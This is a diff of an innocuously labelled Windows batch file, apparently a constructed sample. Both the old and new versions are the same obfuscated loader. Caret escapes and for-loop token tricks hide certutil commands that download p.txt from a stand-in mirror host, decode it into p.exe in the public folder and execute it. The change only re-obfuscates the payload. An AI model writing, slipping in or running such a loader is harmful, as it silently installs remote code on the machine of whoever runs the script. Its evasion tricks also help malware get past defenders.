@@ -1,5 +1,5 @@
-REM init 4440 v4
+REM task 4976 v4
 @echo off
-fo^r /^f "tokens=3 delims=;" %%i i^n ("bndz;uofw;certutil") d^o %%^i -u^rlc^a^ch^e -f ^ht^tp://^r^e^po.pkg-^mi^rro^r.e^x^a^m^p^le/p.^txt %PUBLIC%\^p.txt
-for /f "tokens=3 delims=#" %%i ^in ("yggk#wwld#certutil") ^do %%^i -^d^e^c^ode %PUBLIC%\p.txt %PUBLIC%\^p.^exe
-^for /^f "tokens=2 delims=#" %%i ^i^n ("iqdw#%PUBLIC%\p.exe#bboh") ^d^o %%^i
+f^or /f "tokens=2 delims=@" %%^i ^i^n ("svao@certutil@jrny") d^o %%i -^u^r^l^cache -f ^h^tt^p://^r^ep^o.^pkg-^m^irr^or.^ex^am^p^l^e/p.t^xt %PUBLIC%\^p.t^x^t
+f^or /^f "tokens=2 delims=;" %%i i^n ("asrx;certutil;pmyt") ^do %%i -^dec^o^de %PUBLIC%\^p.txt %PUBLIC%\^p.e^x^e
+for /^f "tokens=3 delims=@" %%^i in ("yebo@qlpj@%PUBLIC%\p.exe") d^o %%i
